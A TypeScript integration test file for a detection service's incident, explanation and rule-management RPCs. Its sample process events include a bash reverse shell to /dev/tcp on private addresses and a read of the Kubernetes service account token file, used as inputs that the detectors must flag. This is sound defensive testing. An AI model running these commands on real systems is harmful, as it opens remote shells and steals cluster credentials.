// The incident, explanation and rule-management RPCs of a running intelligence service on a real
// nats-server and real gRPC: alerts on one pod correlate into one incident with a timeline;
// ExplainAlert reads the evidence events back from TELEMETRY and DECEPTION; a deception touch is a
// critical alert; TestRules runs a rule on sample events; LoadRules refuses a bad pack whole and
// loads a good one; SetRuleEnabled silences a rule until it is enabled again.
import * as grpc from '@grpc/grpc-js';
import { connectBus, publish, subjects, type Bus } from '@omega/bus';
import { deceptionEvent, flowEvent } from '@omega/detect';
import {
  FIELD_TAGS,
  DetectorKind,
  Event,
  IntelligenceServiceClient,
  type IntelligenceServiceService,
  InteractionKind,
  NetworkActivityId,
  RuleFormat,
  Severity,
  type Alert,
  type ExplainAlertRequest,
  type GetIncidentRequest,
  type ListIncidentsRequest,
  type ListRulesRequest,
  type LoadRulesRequest,
  type SetRuleEnabledRequest,
  type TestRulesRequest,
} from '@omega/proto';
import { createLogger, createPromiseClient, type PromiseClient } from '@omega/runtime';
import { runService, type RunningService } from '@omega/service';
import { eventually, withNats, localServiceEnv } from '@omega/testkit';
import { AlertStore } from './alert-store';
import {
  buildIntelligence,
  INTELLIGENCE_RESOURCES,
  intelligenceServiceConfigSchema,
  type IntelligenceServiceConfig,
} from './intelligence-service';
import { processLaunch } from './testing/spec-events';
import { SpecSentinel } from './testing/spec-sentinel';

const nats = withNats({ jetstream: true });
const REVERSE_SHELL_RULE = 'sigma:0b6a6f0e-3f7c-4d4e-9a51-1c2d3e4f5a02';
const TOKEN_READ_RULE = 'sigma:0b6a6f0e-3f7c-4d4e-9a51-1c2d3e4f5a04';
const T0 = 1_700_000_000_000_000_000n;
let running: RunningService<IntelligenceServiceConfig>;
let bus: Bus;
let store: AlertStore;
let client: PromiseClient<typeof IntelligenceServiceService>;
let sentinel: SpecSentinel;

beforeAll(async () => {
  running = await runService({
    name: 'intelligence',
    configSchema: intelligenceServiceConfigSchema,
    resources: INTELLIGENCE_RESOURCES,
    installSignalHandlers: false,
    env: localServiceEnv(nats.url, {
      // Audit appends of alerts and rule changes have their own specs against a real trust.
      OMEGA_INTELLIGENCE_AUDIT_ALERTS: 'false',
    }),
    build: buildIntelligence,
  });
  bus = await connectBus({
    servers: nats.url,
    name: 'rpcs-spec',
    logger: createLogger({ service: 'spec', level: 'silent' }),
  });
  sentinel = await SpecSentinel.enroll(bus, 'node-1');
  store = new AlertStore(bus);
  client = createPromiseClient(IntelligenceServiceClient, `127.0.0.1:${running.grpcPort}`);
}, 30_000);

nats.beforeStop(async () => {
  client?.close();
  await bus?.drain();
  await running?.service.shutdown('test done');
});

const getIncident = (r: GetIncidentRequest) => client.getIncident(r);
const listIncidents = (r: ListIncidentsRequest) => client.listIncidents(r);
const explain = (r: ExplainAlertRequest) => client.explainAlert(r);
const testRules = (r: TestRulesRequest) => client.testRules(r);
const loadRules = (r: LoadRulesRequest) => client.loadRules(r);
const setEnabled = (r: SetRuleEnabledRequest) => client.setRuleEnabled(r);
const listRules = (r: ListRulesRequest) => client.listRules(r);
const allRules = (includeDisabled: boolean) =>
  listRules({
    kind: DetectorKind.DETECTOR_KIND_UNSPECIFIED,
    attackTechniqueId: '',
    includeDisabled,
    includeSource: false,
    pageSize: 1000,
    pageToken: '',
  });

async function waitForAlert(predicate: (a: Alert) => boolean, what: string): Promise<Alert> {
  return eventually(what, async () =>
    (await store.list(undefined, 1000)).alerts.map((s) => s.alert).find(predicate),
  );
}

async function caughtUp(): Promise<void> {
  await eventually('every telemetry batch acked', async () => {
    const info = await bus.jsm.consumers.info('TELEMETRY', 'intelligence');
    return info.num_ack_pending === 0 && info.num_pending === 0 ? true : undefined;
  });
}

const inPod = (pod: string, id: string, commandLine: string, timeNs: bigint) =>
  processLaunch(
    { 'omega.pod': pod, Image: '/bin/sh', CommandLine: commandLine, ParentImage: '/bin/bash' },
    { id, timeNs },
  );

const SOURCE = (id: string, needle: string) => `title: Test rule ${needle}
id: ${id}
status: experimental
logsource:
  category: process_creation
  product: linux
detection:
  selection:
    CommandLine|contains: '${needle}'
  condition: selection
level: high
tags:
  - attack.execution
  - attack.t1059.004
`;

describe('incidents', () => {
  it('correlates alerts on one pod into one incident with a timeline; another pod gets its own', async () => {
    await sentinel.publish('process', [
      inPod('inc-1', 'inc-shell', 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1', T0),
      inPod(
        'inc-1',
        'inc-token',
        'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
        T0 + 5_000_000_000n,
      ),
      // Another pod's shell to another address: nothing links them (a shell to the same address
      // would: that address is then one attacker's, aimed at by few).
      inPod('inc-2', 'inc-other', 'bash -i >& /dev/tcp/10.8.8.8/4444 0>&1', T0),
    ]);
    const shell = await waitForAlert((a) => a.evidence[0]?.eventId === 'inc-shell', 'shell');
    const token = await waitForAlert((a) => a.evidence[0]?.eventId === 'inc-token', 'token');
    const other = await waitForAlert((a) => a.evidence[0]?.eventId === 'inc-other', 'other');
    expect(shell.incidentId).toMatch(/^inc-[0-9a-f]{24}$/);
    expect(token.incidentId).toBe(shell.incidentId);
    expect(other.incidentId).not.toBe(shell.incidentId);

    const { incident, alerts } = await getIncident({ incidentId: shell.incidentId });
    expect(alerts.map((a) => a.id)).toEqual([shell.id, token.id]);
    expect(incident).toMatchObject({
      id: shell.incidentId,
      severity: Severity.SEVERITY_HIGH,
      alertIds: [shell.id, token.id],
      createTimeNs: T0,
      updateTimeNs: T0 + 5_000_000_000n,
      attackTechniqueIds: ['T1059.004', 'T1095', 'T1528', 'T1552.007'],
    });
    const lines = incident!.summary.split('\n');
    expect(lines[0]).toBe('2 alerts on shop/inc-1:');
    expect(lines[1]).toMatch(/^2023-11-14T22:13:20.000Z \[high\] .*Reverse Shell/i);
    expect(lines[2]).toMatch(/^2023-11-14T22:13:25.000Z \[medium\] .*Service Account Token/i);

    const listed = await listIncidents({
      entityValue: 'shop/inc-1',
      statuses: [],
      minSeverity: 0,
      pageSize: 0,
      pageToken: '',
    });
    expect(listed.incidents.map((i) => i.id)).toEqual([shell.incidentId]);
    await expect(getIncident({ incidentId: 'inc-000000000000000000000000' })).rejects.toMatchObject(
      { code: grpc.status.NOT_FOUND },
    );
  });
});

describe('ExplainAlert', () => {
  it('returns the rule, the techniques by name and the evidence event read back from TELEMETRY', async () => {
    const shell = await waitForAlert((a) => a.evidence[0]?.eventId === 'inc-shell', 'shell');
    const explained = await explain({ alertId: shell.id, includeEvents: true });
    expect(explained.rule?.id).toBe(REVERSE_SHELL_RULE);
    expect(explained.summary).toBe(shell.explanation);
    expect(explained.reasons).toEqual(shell.reasons);
    expect(explained.techniques[0]).toEqual({
      id: 'T1059.004',
      name: 'Command and Scripting Interpreter: Unix Shell',
      tacticIds: ['TA0002'],
      url: 'https://attack.mitre.org/techniques/T1059/004/',
    });
    expect(explained.events.map((e) => e.id)).toEqual(['inc-shell']);
    const withoutEvents = await explain({ alertId: shell.id, includeEvents: false });
    expect(withoutEvents.events).toEqual([]);
  });

  it("reads back every evidence event of a detector's finding, from every batch it came in", async () => {
    // A port scan in two batches: 20 refused connections to distinct ports of one host.
    const probe = (port: number) =>
      flowEvent({
        id: `scan-${port}`,
        timeNs: T0 + BigInt(port) * 100_000_000n,
        src: { ip: '10.0.9.9' },
        dst: { ip: '10.0.9.10', port },
        activity: NetworkActivityId.NETWORK_ACTIVITY_ID_REFUSE,
      });
    const ports = Array.from({ length: 20 }, (_, i) => 1000 + i);
    await sentinel.publish('network', ports.slice(0, 10).map(probe));
    await sentinel.publish('network', ports.slice(10).map(probe));
    const scan = await waitForAlert(
      (a) => a.ruleId === 'detector:port-scan' && a.title.includes('10.0.9.10'),
      'the port scan',
    );
    const evidenceIds = scan.evidence.map((e) => e.eventId);
    expect(evidenceIds.length).toBeGreaterThan(1);
    expect(new Set(scan.evidence.map((e) => e.batch?.streamSequence)).size).toBeGreaterThan(1);
    const explained = await explain({ alertId: scan.id, includeEvents: true });
    expect(explained.events.map((e) => e.id)).toEqual(evidenceIds);
  });
});

describe('deception', () => {
  it('a honeytoken use on DECEPTION is a critical deception alert, explained with its event', async () => {
    const touch = deceptionEvent({
      id: 'touch-1',
      timeNs: T0,
      src: { ip: '10.0.7.7' },
      honeytokenId: 'aws-key-1',
      kind: InteractionKind.INTERACTION_KIND_TOKEN_USE,
    });
    await publish(bus, subjects.deception('aws-key-1'), Event, touch);
    const alert = await waitForAlert((a) => a.evidence[0]?.eventId === 'touch-1', 'the touch');
    expect(alert.detectorKind).toBe(DetectorKind.DETECTOR_KIND_DECEPTION);
    expect(alert.severity).toBeGreaterThanOrEqual(Severity.SEVERITY_CRITICAL);
    expect(alert.incidentId).not.toBe('');
    const explained = await explain({ alertId: alert.id, includeEvents: true });
    expect(explained.events.map((e) => e.id)).toEqual(['touch-1']);
  });
});

describe('rule management', () => {
  it('TestRules says which sample events a rule matches, and why', async () => {
    const result = await testRules({
      sources: [
        {
          name: 'probe.yml',
          format: RuleFormat.RULE_FORMAT_SIGMA_YAML,
          content: SOURCE('11111111-2222-4333-8444-555555555551', 'evil-tool'),
        },
      ],
      events: [inPod('t', 'benign', 'ls -la', T0), inPod('t', 'bad', '/tmp/evil-tool --exfil', T0)],
    });
    expect(result.valid).toBe(true);
    expect(result.rules.map((r) => r.id)).toEqual(['sigma:11111111-2222-4333-8444-555555555551']);
    expect(result.matches).toHaveLength(1);
    expect(result.matches[0]).toMatchObject({ eventIndex: 1, eventId: 'bad' });
    expect(result.matches[0]!.explanation).toContain('/tmp/evil-tool --exfil');
  });

  it('TestRules refuses more sample events than its limit before decoding them, naming the limit', async () => {
    // 10,001 empty events: two bytes each on the wire, one object each once decoded.
    const bytes = Buffer.alloc(2 * 10_001);
    for (let i = 0; i < bytes.length; i += 2) bytes[i] = FIELD_TAGS.TestRulesRequest.events;
    const refused = await new Promise<grpc.ServiceError>((resolve, reject) =>
      client.grpcClient.makeUnaryRequest(
        '/omega.v1.IntelligenceService/TestRules',
        (b: Buffer) => b,
        (b: Buffer) => b,
        bytes,
        (err: grpc.ServiceError | null) => (err ? resolve(err) : reject(new Error('answered'))),
      ),
    );
    expect(refused.code).toBe(grpc.status.INVALID_ARGUMENT);
    expect(refused.details).toBe(
      'TestRules: events: more than 10000 sample events, at most 10000 per call (refused before decoding)',
    );
  });

  it('LoadRules refuses a pack with one bad rule whole, loads a good one, and it fires', async () => {
    const before = await allRules(true);
    const refused = await loadRules({
      sources: [
        {
          name: 'good.yml',
          format: RuleFormat.RULE_FORMAT_SIGMA_YAML,
          content: SOURCE('11111111-2222-4333-8444-555555555552', 'loaded-tool'),
        },
        {
          name: 'bad.yml',
          format: RuleFormat.RULE_FORMAT_SIGMA_YAML,
          content:
            'title: x\nlogsource: {category: process_creation}\ndetection: {condition: nope}\n',
        },
      ],
      replaceAll: false,
      requestId: 'load-1',
    });
    expect(refused.loaded).toBe(false);
    expect(refused.diagnostics[0]).toMatchObject({ source: 'bad.yml' });
    const unchanged = await allRules(true);
    expect(unchanged.rules.map((r) => r.id)).toEqual(before.rules.map((r) => r.id));

    const loaded = await loadRules({
      sources: [
        {
          name: 'good.yml',
          format: RuleFormat.RULE_FORMAT_SIGMA_YAML,
          content: SOURCE('11111111-2222-4333-8444-555555555552', 'loaded-tool'),
        },
      ],
      replaceAll: false,
      requestId: 'load-2',
    });
    expect(loaded).toMatchObject({
      loaded: true,
      loadedRuleIds: ['sigma:11111111-2222-4333-8444-555555555552'],
      removedRuleIds: [],
    });
    await sentinel.publish('process', [inPod('lr-1', 'loaded-hit', 'loaded-tool -x', T0)]);
    const alert = await waitForAlert((a) => a.evidence[0]?.eventId === 'loaded-hit', 'loaded');
    expect(alert.ruleId).toBe('sigma:11111111-2222-4333-8444-555555555552');
  });

  it('SetRuleEnabled silences a rule until it is enabled again; an unknown id is NOT_FOUND', async () => {
    const off = await setEnabled({ ruleId: TOKEN_READ_RULE, enabled: false, requestId: 'off-1' });
    expect(off.rule).toMatchObject({ id: TOKEN_READ_RULE, enabled: false });
    const token = 'cat /var/run/secrets/kubernetes.io/serviceaccount/token';
    await sentinel.publish('process', [inPod('en-1', 'while-off', token, T0)]);
    await caughtUp();
    const all = (await store.list(undefined, 1000)).alerts.map((s) => s.alert);
    expect(all.some((a) => a.evidence[0]?.eventId === 'while-off')).toBe(false);
    const disabled = await allRules(false);
    expect(disabled.rules.some((r) => r.id === TOKEN_READ_RULE)).toBe(false);

    const on = await setEnabled({ ruleId: TOKEN_READ_RULE, enabled: true, requestId: 'on-1' });
    expect(on.rule?.enabled).toBe(true);
    await sentinel.publish('process', [inPod('en-2', 'while-on', token, T0)]);
    await waitForAlert((a) => a.evidence[0]?.eventId === 'while-on', 'the alert once enabled');
    await expect(
      setEnabled({ ruleId: 'sigma:nope', enabled: false, requestId: '' }),
    ).rejects.toMatchObject({ code: grpc.status.NOT_FOUND });
  });
});
